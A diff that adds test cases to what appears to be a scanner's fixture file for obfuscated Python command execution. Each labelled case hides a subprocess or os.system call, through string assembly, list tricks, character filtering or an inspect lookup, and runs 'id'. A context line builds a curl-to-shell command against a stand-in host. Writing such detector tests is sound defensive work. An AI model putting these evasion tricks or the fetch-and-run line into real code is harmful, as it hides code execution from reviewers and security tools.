@@ -218,3 +218,21 @@ __import__(base64.b64decode("c3VicHJvY2Vzcw==").decode()).run(["id"])
 #--- command-built-only: the function is plain, the command is built
 import os
 os.system("".join(["c", "url", " http://example.invalid | s", "h"]))
+#--- list-inserted-before: the first of a list is put there later
+l = ["json"]
+l.insert(0, "subprocess")
+__import__(l[0]).run(["id"])
+#--- text-grows-by-itself: a name that is made longer by itself
+n = ""
+n = n + "sub"
+n = n + "process"
+__import__(n).run(["id"])
+#--- filtered-letters: letters among digits
+__import__("".join(filter(str.isalpha, "s1u2b3process"))).run(["id"])
+#--- sorted-parts: parts in the order of their marks
+parts = sorted(["2process", "1sub"])
+__import__("".join(p[1:] for p in parts)).run(["id"])
+#--- members-as-table: a table of members
+import os
+from inspect import getmembers
+dict(getmembers(os))["system"]("id")
